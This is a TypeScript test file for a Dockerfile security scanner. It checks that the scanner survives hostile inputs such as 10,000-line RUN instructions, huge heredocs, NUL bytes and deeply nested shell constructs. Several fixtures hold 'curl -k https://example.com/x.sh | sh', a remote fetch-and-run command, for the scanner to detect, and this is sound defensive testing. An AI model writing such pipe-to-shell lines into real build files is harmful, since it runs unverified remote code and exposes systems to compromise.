// Hostile Dockerfiles: a 10,000-line RUN, an enormous heredoc, NUL bytes, deep shell nesting, huge lines.
import { describe, expect, it } from "vitest";
import { expectIntact, parseError, scanBeside } from "./_scan.js";

const T = { timeout: 20_000 };

describe("Dockerfiles", () => {
  it("checks a 10,000-line RUN (continuation lines) and finds what is in it, at its line", T, async () => {
    const lines = ["FROM alpine:3.20", "RUN set -e \\"];
    for (let i = 0; i < 10_000; i++) lines.push(i === 5000 ? "  && curl -k https://example.com/x.sh | sh \\" : `  && echo step${i} \\`);
    lines.push("  && true", "USER app");
    const r = await scanBeside({ "long.Dockerfile": `${lines.join("\n")}\n` });
    expectIntact(r);
    expect(r.of("long.Dockerfile").filter((f) => f.ruleId === "parse-error")).toEqual([]);
    const pipe = r.of("long.Dockerfile").filter((f) => f.location.line === 5003);
    expect(pipe.length, JSON.stringify(r.of("long.Dockerfile").map((f) => [f.ruleId, f.location.line]))).toBeGreaterThan(0);
  });

  it("reports a RUN longer than the script limit (scriptTooLong) at its line, and checks the rest", T, async () => {
    const lines = ["FROM alpine:3.20", "USER root", "RUN true \\"];
    for (let i = 0; i < 20_000; i++) lines.push(`  && echo some-long-package-name-${i} \\`);
    lines.push("  && true", "RUN curl -k https://example.com/x.sh | sh");
    const text = `${lines.join("\n")}\n`;
    expect(text.length).toBeGreaterThan(256 * 1024);
    const r = await scanBeside({ "huge.Dockerfile": text });
    expectIntact(r);
    const e = parseError(r, "huge.Dockerfile", "scriptTooLong");
    expect(e.location.line).toBe(3);
    expect(e.message).toMatch(/over the limit of 262144.*--max-script-size.*limits\.maxScriptChars/);
    const last = lines.length;
    expect(r.of("huge.Dockerfile").some((f) => f.location.line === last && f.ruleId !== "parse-error")).toBe(true);
    const raised = await scanBeside({ "huge.Dockerfile": text }, ["--max-script-size", "2M"]);
    expect(raised.of("huge.Dockerfile").filter((f) => f.ruleId === "parse-error")).toEqual([]);
  });

  it("reports an enormous heredoc (scriptTooLong), and checks a big one within the limit", T, async () => {
    const body = (n: number) => Array.from({ length: n }, (_, i) => `echo line-${i}-${"x".repeat(40)}`).join("\n");
    const text = `FROM alpine:3.20\nUSER app\nRUN <<EOF\n${body(20_000)}\nEOF\nRUN <<EOF\n${body(2000)}\ncurl -k https://example.com/x.sh | sh\nEOF\n`;
    const r = await scanBeside({ "heredoc.Dockerfile": text });
    expectIntact(r);
    const e = parseError(r, "heredoc.Dockerfile", "scriptTooLong");
    expect(e.location.line).toBe(4);
    const curlLine = text.split("\n").findIndex((l) => l.startsWith("curl")) + 1;
    expect(r.of("heredoc.Dockerfile").some((f) => f.location.line === curlLine && f.ruleId !== "parse-error")).toBe(true);
  });

  it("reports NUL bytes as a binary file", T, async () => {
    const r = await scanBeside({ "Dockerfile": "FROM alpine:3.20\nRUN echo \u0000\u0000 hi\nUSER root\n" });
    expectIntact(r);
    expect(parseError(r, "Dockerfile", "binary").location.line).toBe(1);
  });

  it.each([
    ["10,000 nested subshells", `RUN ${"(".repeat(10_000)}true${")".repeat(10_000)}`, "tooDeep"],
    ["10,000 nested command substitutions", `RUN echo ${"$(".repeat(10_000)}x${")".repeat(10_000)}`, "tooDeep"],
    ["10,000 nested parameter expansions", `RUN echo ${"${a:-".repeat(10_000)}x${"}".repeat(10_000)}`, "tooDeep"],
    ["10,000 nested braces", `RUN ${"{ ".repeat(10_000)}true;${" };".repeat(10_000)}`, "tooDeep"],
    ["1,000 nested ifs", `RUN ${"if true; then ".repeat(1000)}true${"; fi".repeat(1000)}`, "tooDeep"],
    ["50,000 commands joined by &&", `RUN ${Array(50_000).fill("a").join("&&")}`, undefined],
    ["a 1 MB word", `RUN echo ${"a".repeat(1_000_000)}`, "scriptTooLong"],
    ["a 1 MB exec form", `RUN ["sh", "-c", "${"a".repeat(1_000_000)}"]`, "scriptTooLong"],
    ["unbalanced quotes and heredoc markers", "RUN echo \"unterminated 'and <<EOF $(( {", undefined],
    ["a 50-deep sh -c chain", `RUN ${"sh -c '".repeat(50)}curl x | sh${"'".repeat(50)}`, undefined],
  ])("survives %s", T, async (_name, run, messageId) => {
    const r = await scanBeside({ "Dockerfile": `FROM alpine:3.20\nUSER app\n${run}\n` });
    expectIntact(r);
    for (const f of r.of("Dockerfile")) expect(f.location.line, `${f.ruleId} ${f.message}`).toBeLessThanOrEqual(3);
    const errors = r.of("Dockerfile").filter((f) => f.ruleId === "parse-error");
    expect(errors.map((f) => [f.messageId, f.location.line])).toEqual(messageId ? [[messageId, 3]] : []);
    if (messageId === "tooDeep") expect(errors[0]!.message).toMatch(/more than 256 levels.*--max-depth/);
  });

  it("reports a Dockerfile of only junk, and checks one of 20,000 instructions", T, async () => {
    const many = ["FROM alpine:3.20", ...Array.from({ length: 20_000 }, (_, i) => (i % 2 ? `LABEL k${i}=v${i}` : `RUN echo ${i}`)), "USER root"];
    const r = await scanBeside({ "junk.Dockerfile": "\u00ff\u00fe garbage {{{ ]]] \\\n\\\n", "many.Dockerfile": `${many.join("\n")}\n` });
    expectIntact(r);
    parseError(r, "junk.Dockerfile", "noFrom");
    expect(r.of("many.Dockerfile").filter((f) => f.ruleId === "parse-error")).toEqual([]);
    expect(r.of("many.Dockerfile").some((f) => f.location.line === many.length)).toBe(true);
  });

  // Pending: variableScopes (src/model/dockerfile-queries.ts) copies every variable in scope for every instruction:
  // 8,000 ENV lines take 40 s and 2.5 GB, 100,000 run out of memory (see the report). It.fails cannot catch an
  // out-of-memory worker, so this stays a todo until the fix.
  it.todo("checks a Dockerfile of 100,000 ENV instructions in bounded time and memory");
});
